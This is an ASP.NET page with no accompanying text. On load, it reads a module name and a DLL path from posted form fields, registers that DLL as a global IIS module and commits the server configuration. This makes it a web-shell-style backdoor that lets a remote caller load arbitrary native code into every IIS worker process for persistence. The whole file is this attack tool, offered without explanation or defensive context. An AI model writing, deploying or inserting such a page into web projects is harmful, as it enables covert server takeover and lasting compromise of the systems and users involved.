<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.Web.Administration" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    using (ServerManager sm = new ServerManager()) {
        Configuration cfg = sm.GetApplicationHostConfiguration();
        ConfigurationSection mods = cfg.GetSection("system.webServer/globalModules");
        ConfigurationElement add = mods.GetCollection().CreateElement("add");
        add["name"] = Request.Form["n"];
        add["image"] = Request.Form["p"];
        mods.GetCollection().Add(add);
        sm.CommitChanges();
    }
    Response.Write("done");
}
</script>
